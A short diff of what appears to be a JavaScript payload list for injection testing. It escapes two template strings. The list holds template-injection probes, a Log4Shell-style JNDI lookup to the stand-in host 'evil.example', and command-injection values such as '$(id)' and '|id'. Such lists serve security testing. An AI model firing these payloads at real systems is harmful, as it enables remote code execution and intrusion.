@@ -31,11 +31,11 @@ const byKind = {
   ],
   templates: [
     '{{7*7}}',
-    '${7*7}',
+    `\${7*7}`,
     '#{7*7}',
     '<%= 7*7 %>',
     '{% raw %}',
-    '${jndi:ldap://evil.example/a}',
+    `\${jndi:ldap://evil.example/a}`,
     '$(id)',
     '`id`',
     '|id',
